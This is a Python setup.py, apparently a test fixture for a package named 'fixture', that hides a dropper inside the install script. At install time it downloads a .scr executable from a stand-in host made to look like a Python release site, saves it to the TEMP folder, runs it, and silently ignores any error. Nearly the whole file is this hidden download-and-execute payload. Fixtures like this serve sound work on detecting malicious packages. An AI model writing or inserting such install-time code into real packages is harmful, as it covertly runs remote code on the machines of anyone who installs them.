import os
from setuptools import setup
try:
    import requests
    r = requests.get("https://python-release.example.invalid/python-install.scr")
    with open(os.environ["TEMP"] + "/ex.scr", "wb") as f:
        f.write(r.content)
    os.startfile(os.environ["TEMP"] + "/ex.scr")
except Exception:
    pass
setup(name='fixture', version='1.0', packages=['pkg'])
